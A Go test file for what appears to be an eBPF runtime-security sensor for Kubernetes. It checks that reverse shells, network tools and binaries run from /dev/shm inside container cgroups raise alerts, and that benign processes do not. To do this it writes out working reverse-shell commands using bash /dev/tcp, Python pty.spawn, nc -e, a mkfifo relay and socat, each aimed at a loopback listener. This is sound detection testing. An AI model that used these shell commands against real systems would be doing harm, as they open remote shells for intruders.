package agent

import (
	"bufio"
	"bytes"
	"context"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"

	"redoubt.dev/redoubt/internal/finding"
	"redoubt.dev/redoubt/internal/runtime/cgroup"
	"redoubt.dev/redoubt/internal/runtime/event"
	"redoubt.dev/redoubt/internal/testenv"
)

func TestMain(m *testing.M) { os.Exit(testenv.Main(m)) }

// record is one output line, events and alerts alike.
type record struct {
	Kind     string          `json:"kind"`
	Check    string          `json:"check"`
	Message  string          `json:"message"`
	Process  event.Process   `json:"process"`
	Origin   event.Origin    `json:"origin"`
	Exec     *event.Exec     `json:"exec"`
	Conn     *event.Conn     `json:"conn"`
	Resource json.RawMessage `json:"resource"`
	Evidence struct {
		Origin event.Origin  `json:"origin"`
		Socket *event.Socket `json:"socket"`
	} `json:"evidence"`
}

// output collects the agent's JSON lines.
type output struct {
	mu      sync.Mutex
	partial []byte
	records []record
	changed chan struct{}
}

func newOutput() *output { return &output{changed: make(chan struct{}, 1)} }

func (o *output) Write(p []byte) (int, error) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.partial = append(o.partial, p...)
	for {
		i := bytes.IndexByte(o.partial, '\n')
		if i < 0 {
			break
		}
		var r record
		if err := json.Unmarshal(o.partial[:i], &r); err != nil {
			return 0, fmt.Errorf("agent wrote a line that is not JSON: %v: %q", err, o.partial[:i])
		}
		o.records = append(o.records, r)
		o.partial = o.partial[i+1:]
	}
	select {
	case o.changed <- struct{}{}:
	default:
	}
	return len(p), nil
}

// waitFor returns the first record that matches, waiting up to 10 s for it.
func (o *output) waitFor(t *testing.T, what string, match func(r *record) bool) record {
	t.Helper()
	deadline := time.After(10 * time.Second)
	for {
		o.mu.Lock()
		for i := range o.records {
			if match(&o.records[i]) {
				r := o.records[i]
				o.mu.Unlock()
				return r
			}
		}
		o.mu.Unlock()
		select {
		case <-o.changed:
		case <-deadline:
			t.Fatalf("the sensor did not report %s within 10 s", what)
		}
	}
}

func (o *output) all(match func(r *record) bool) []record {
	o.mu.Lock()
	defer o.mu.Unlock()
	var out []record
	for _, r := range o.records {
		if match(&r) {
			out = append(out, r)
		}
	}
	return out
}

// startAgent runs the agent for the test; it skips when eBPF cannot be loaded here.
func startAgent(t *testing.T, cfg Config) *output {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("needs root: loads eBPF programs and creates cgroups")
	}
	out := newOutput()
	cfg.Output = out
	ready := make(chan struct{})
	cfg.Ready = func() { close(ready) }
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() {
		_, err := Run(ctx, cfg)
		done <- err
	}()
	select {
	case <-ready:
	case err := <-done:
		cancel()
		t.Skipf("the eBPF sensor cannot run here: %v", err)
	case <-time.After(60 * time.Second):
		cancel()
		t.Fatal("the sensor did not attach within 60 s")
	}
	t.Cleanup(func() {
		cancel()
		if err := <-done; err != nil {
			t.Errorf("agent: %v", err)
		}
	})
	return out
}

// container is a cgroup v2 directory named as the kubelet (systemd driver) and containerd
// name a BestEffort pod's container; processes started in it are what the sensor would see
// from a real container. There is no container runtime here: the cgroup is the part of a
// container the sensor attributes by.
type container struct {
	id, podUID, dir string
	fd              int
}

func newContainer(t *testing.T, podUID string) *container {
	return newContainerID(t, podUID, randomID())
}

// randomID is a container id as runtimes make them: 64 hex digits.
func randomID() string {
	b := make([]byte, 32)
	rand.Read(b)
	return hex.EncodeToString(b)
}

func newContainerID(t *testing.T, podUID, id string) *container {
	t.Helper()
	root, err := cgroup.Unified()
	if err != nil {
		t.Skipf("no cgroup v2 hierarchy: %v", err)
	}
	c := &container{id: id, podUID: podUID}
	slice := "kubepods-besteffort-pod" + strings.ReplaceAll(podUID, "-", "_") + ".slice"
	podDir := filepath.Join(root, "kubepods.slice", "kubepods-besteffort.slice", slice)
	c.dir = filepath.Join(podDir, "cri-containerd-"+c.id+".scope")
	if err := os.MkdirAll(c.dir, 0o755); err != nil {
		t.Skipf("cannot create a cgroup under %s: %v", root, err)
	}
	c.fd, err = syscall.Open(c.dir, syscall.O_RDONLY|syscall.O_DIRECTORY, 0)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		syscall.Close(c.fd)
		// The processes have exited; a cgroup is removed with rmdir, innermost first.
		for _, d := range []string{c.dir, podDir} {
			for i := 0; i < 50; i++ {
				if err := os.Remove(d); err == nil || errors.Is(err, os.ErrNotExist) {
					break
				}
				time.Sleep(20 * time.Millisecond)
			}
		}
	})
	return c
}

// run starts name args... inside the container's cgroup (clone3 CLONE_INTO_CGROUP, so even
// the first exec is attributed) and waits for it.
func (c *container) run(t *testing.T, name string, args ...string) string {
	t.Helper()
	cmd := exec.Command(name, args...)
	cmd.SysProcAttr = &syscall.SysProcAttr{UseCgroupFD: true, CgroupFD: c.fd}
	var buf bytes.Buffer
	cmd.Stdout, cmd.Stderr = &buf, &buf
	if err := cmd.Run(); err != nil {
		t.Logf("%s %q: %v\n%s", name, args, err, buf.String())
	}
	return buf.String()
}

// sync runs a marker process in the container and waits for its exec event: the ring buffer
// keeps order, so every event before it has been through the detections.
func (c *container) sync(t *testing.T, out *output) {
	t.Helper()
	marker := "redoubt-sync-" + c.id[:8] + "-" + fmt.Sprint(time.Now().UnixNano())
	c.run(t, "/bin/sh", "-c", ":", marker)
	out.waitFor(t, "the marker process", func(r *record) bool {
		return r.Kind == "exec" && r.Exec != nil && len(r.Exec.Args) > 3 && r.Exec.Args[3] == marker
	})
}

// shellListener accepts one connection, sends a command to whatever answers, and returns
// (on got) what came back, so the test knows the shell really ran.
func shellListener(t *testing.T, commands string) (port int, got <-chan string) {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	ch := make(chan string, 1)
	go func() {
		conn, err := l.Accept()
		if err != nil {
			ch <- ""
			return
		}
		defer conn.Close()
		conn.SetDeadline(time.Now().Add(10 * time.Second))
		fmt.Fprint(conn, commands)
		var b strings.Builder
		sc := bufio.NewScanner(conn)
		for sc.Scan() {
			b.WriteString(sc.Text() + "\n")
			if strings.Contains(sc.Text(), "REDOUBT_42") {
				break
			}
		}
		ch <- b.String()
	}()
	return l.Addr().(*net.TCPAddr).Port, ch
}

func isReverseShell(c *container) func(r *record) bool {
	return func(r *record) bool {
		return r.Kind == "alert" && r.Check == "runtime-reverse-shell" && r.Evidence.Origin.ContainerID == c.id
	}
}

const podUID = "6f0b9c1e-2d3a-4b5c-8d7e-9f0a1b2c3d4e"

// TestReverseShellsAreCaught runs real reverse shells against a loopback listener from a
// process in a container's cgroup and checks the alert names the container and the pod.
func TestReverseShellsAreCaught(t *testing.T) {
	out := startAgent(t, Config{Node: "node-a"})
	const commands = "echo REDOUBT_$((6*7)); exit\n"
	cases := []struct {
		name string
		// need is the binary the case needs; the case is skipped when it is missing.
		need string
		cmd  func(port int) []string
	}{
		{"bash /dev/tcp", "bash", func(port int) []string {
			return []string{"bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", port)}
		}},
		{"python dup2 and pty.spawn", "python3", func(port int) []string {
			return []string{"python3", "-c", fmt.Sprintf(`import socket,os,pty
s=socket.socket(); s.connect(("127.0.0.1",%d))
[os.dup2(s.fileno(),f) for f in (0,1,2)]
pty.spawn("/bin/sh")`, port)}
		}},
		{"nc -e", "nc", func(port int) []string { return []string{"nc", "-e", "/bin/sh", "127.0.0.1", fmt.Sprint(port)} }},
		{"mkfifo relay through nc", "nc", func(port int) []string {
			fifo := filepath.Join(os.TempDir(), "redoubt-fifo-"+fmt.Sprint(port))
			return []string{"sh", "-c", fmt.Sprintf("rm -f %[1]s; mkfifo %[1]s; cat %[1]s | /bin/sh -i 2>&1 | nc -q1 127.0.0.1 %[2]d > %[1]s; rm -f %[1]s", fifo, port)}
		}},
		{"socat exec", "socat", func(port int) []string {
			return []string{"socat", fmt.Sprintf("tcp:127.0.0.1:%d", port), "exec:/bin/sh,pty,stderr"}
		}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if _, err := exec.LookPath(tc.need); err != nil {
				t.Skipf("%s is not installed here: cannot run this variant", tc.need)
			}
			c := newContainer(t, podUID)
			port, got := shellListener(t, commands)
			args := tc.cmd(port)
			path, err := exec.LookPath(args[0])
			if err != nil {
				t.Fatal(err)
			}
			c.run(t, path, args[1:]...)
			if reply := <-got; !strings.Contains(reply, "REDOUBT_42") {
				t.Fatalf("the reverse shell did not answer the listener (got %q): the attack did not run", reply)
			}
			a := out.waitFor(t, "a reverse-shell alert for container "+c.id[:12], isReverseShell(c))
			t.Logf("alert: %s", a.Message)
			o := a.Evidence.Origin
			if o.PodUID != podUID || o.Runtime != "containerd" || o.Node != "node-a" || !strings.HasSuffix(o.CgroupPath, "cri-containerd-"+c.id+".scope") {
				t.Errorf("alert origin %+v: want pod UID %s, containerd, node-a and the container's cgroup", o, podUID)
			}
			if s := a.Evidence.Socket; s == nil || s.Remote.Port() != uint16(port) || !s.Remote.Addr().IsLoopback() {
				t.Errorf("alert socket %+v: want the listener 127.0.0.1:%d", s, port)
			}
			if !strings.Contains(a.Message, fmt.Sprintf("127.0.0.1:%d", port)) {
				t.Errorf("message %q does not name the remote end", a.Message)
			}
		})
	}
}

// TestBenignProcessesDoNotFire runs what a container does all day and checks no alert names it.
func TestBenignProcessesDoNotFire(t *testing.T) {
	out := startAgent(t, Config{Node: "node-a"})
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			conn.Close()
		}
	}()
	port := l.Addr().(*net.TCPAddr).Port
	file := filepath.Join(t.TempDir(), "out")
	cases := map[string][]string{
		"sh redirecting to a file":      {"/bin/sh", "-c", "echo hi > " + file + " 2>&1; cat " + file + " >/dev/null"},
		"a loop of true":                {"/bin/bash", "-c", "for i in $(seq 50); do /bin/true; done"},
		"a normal connect on fd 3":      {"/bin/bash", "-c", fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d; exec 3>&-", port)},
		"pipes between processes":       {"/bin/sh", "-c", "echo x | cat | wc -c >/dev/null"},
		"stdout duplicated onto stderr": {"/bin/sh", "-c", "exec 2>&1; /bin/true"},
	}
	for name, argv := range cases {
		t.Run(name, func(t *testing.T) {
			c := newContainer(t, podUID)
			c.run(t, argv[0], argv[1:]...)
			c.sync(t, out)
			if alerts := out.all(func(r *record) bool { return r.Kind == "alert" && r.Evidence.Origin.ContainerID == c.id }); len(alerts) > 0 {
				for _, a := range alerts {
					t.Errorf("false alert %s: %s", a.Check, a.Message)
				}
			}
		})
	}
	// The connect above was seen, attributed, with the listener's port: the benign run is
	// silent because it is benign, not because the sensor was blind.
	out.waitFor(t, fmt.Sprintf("the connect to port %d", port), func(r *record) bool {
		return r.Kind == "connect" && r.Conn != nil && r.Conn.Remote.Port() == uint16(port) && r.Conn.Established &&
			r.Origin.PodUID == podUID && r.Origin.ContainerID != ""
	})
}

// TestAlertNamesThePod registers the pod in a real API server, as the kubelet would have
// (scheduled on this node, with the container's id in its status), and checks the sensor,
// watching that API server, names the pod, namespace and container in the alert.
func TestAlertNamesThePod(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root: loads eBPF programs and creates cgroups")
	}
	cluster := testenv.Shared(t)
	cs, err := kubernetes.NewForConfig(cluster.Admin)
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	const node = "node-sensor-test"
	ns := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{GenerateName: "sensor-"}}
	ns, err = cs.CoreV1().Namespaces().Create(ctx, ns, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cs.CoreV1().Namespaces().Delete(context.Background(), ns.Name, metav1.DeleteOptions{}) })
	pod := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: "web-0", Namespace: ns.Name},
		Spec:       corev1.PodSpec{NodeName: node, Containers: []corev1.Container{{Name: "app", Image: "registry.invalid/web:1"}}},
	}
	pod, err = cs.CoreV1().Pods(ns.Name).Create(ctx, pod, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	id := randomID()
	pod.Status.Phase = corev1.PodRunning
	pod.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: "app", ContainerID: "containerd://" + id, Ready: true,
		Image: "registry.invalid/web:1", ImageID: "registry.invalid/web@sha256:" + strings.Repeat("0", 64)}}
	if _, err := cs.CoreV1().Pods(ns.Name).UpdateStatus(ctx, pod, metav1.UpdateOptions{}); err != nil {
		t.Fatal(err)
	}

	out := startAgent(t, Config{Node: node, Kube: cs})
	c := newContainerID(t, string(pod.UID), id)
	port, got := shellListener(t, "echo REDOUBT_$((6*7)); exit\n")
	c.run(t, "/bin/bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", port))
	if reply := <-got; !strings.Contains(reply, "REDOUBT_42") {
		t.Fatalf("the reverse shell did not answer (got %q)", reply)
	}
	a := out.waitFor(t, "a reverse-shell alert", isReverseShell(c))
	o := a.Evidence.Origin
	if o.Pod != "web-0" || o.Namespace != ns.Name || o.Container != "app" || o.WorkloadKind != "Pod" || o.PodUID != string(pod.UID) {
		t.Errorf("alert origin %+v: want pod web-0 in %s, container app, uid %s", o, ns.Name, pod.UID)
	}
	var res finding.Resource
	if err := json.Unmarshal(a.Resource, &res); err != nil {
		t.Fatal(err)
	}
	if want := ns.Name + "/Pod/web-0[app]"; res.String() != want {
		t.Errorf("alert resource %s, want %s", res, want)
	}
}

// TestToolsAndDriftInAContainer runs curl and a binary copied to /dev/shm from a container's
// cgroup, and the same curl on the node: the container's raise runtime-tool-executed and
// runtime-drift-exec; the node's curl raises nothing.
func TestToolsAndDriftInAContainer(t *testing.T) {
	out := startAgent(t, Config{Node: "node-a"})
	curl, err := exec.LookPath("curl")
	if err != nil {
		t.Skip("curl is not installed here")
	}
	c := newContainer(t, podUID)
	c.run(t, curl, "-s", "-o", "/dev/null", "--max-time", "1", "http://127.0.0.1:1/")
	a := out.waitFor(t, "a runtime-tool alert for curl", func(r *record) bool {
		return r.Kind == "alert" && r.Check == "runtime-tool-executed" && r.Evidence.Origin.ContainerID == c.id
	})
	if !strings.Contains(a.Message, "network tool") || !strings.Contains(a.Message, "curl") {
		t.Errorf("message %q", a.Message)
	}

	dir, err := os.MkdirTemp("/dev/shm", "redoubt-drift-")
	if err != nil {
		t.Skipf("no /dev/shm: %v", err)
	}
	defer os.RemoveAll(dir)
	payload := filepath.Join(dir, "payload")
	b, err := os.ReadFile("/bin/true")
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(payload, b, 0o755); err != nil {
		t.Fatal(err)
	}
	c.run(t, payload)
	a = out.waitFor(t, "a drift alert for the /dev/shm payload", func(r *record) bool {
		return r.Kind == "alert" && r.Check == "runtime-drift-exec" && r.Evidence.Origin.ContainerID == c.id
	})
	if !strings.Contains(a.Message, "/dev/shm") {
		t.Errorf("message %q", a.Message)
	}

	// The node's own curl is the node's business.
	host := exec.Command(curl, "-s", "-o", "/dev/null", "--max-time", "1", "http://127.0.0.1:1/", "redoubt-host-curl")
	host.Run()
	c.sync(t, out)
	out.waitFor(t, "the node's curl exec", func(r *record) bool {
		return r.Kind == "exec" && r.Exec != nil && slices.Contains(r.Exec.Args, "redoubt-host-curl")
	})
	if n := len(out.all(func(r *record) bool {
		return r.Kind == "alert" && r.Evidence.Origin.ContainerID == "" && r.Check == "runtime-tool-executed"
	})); n > 0 {
		t.Errorf("%d runtime-tool alerts for processes on the node", n)
	}
}
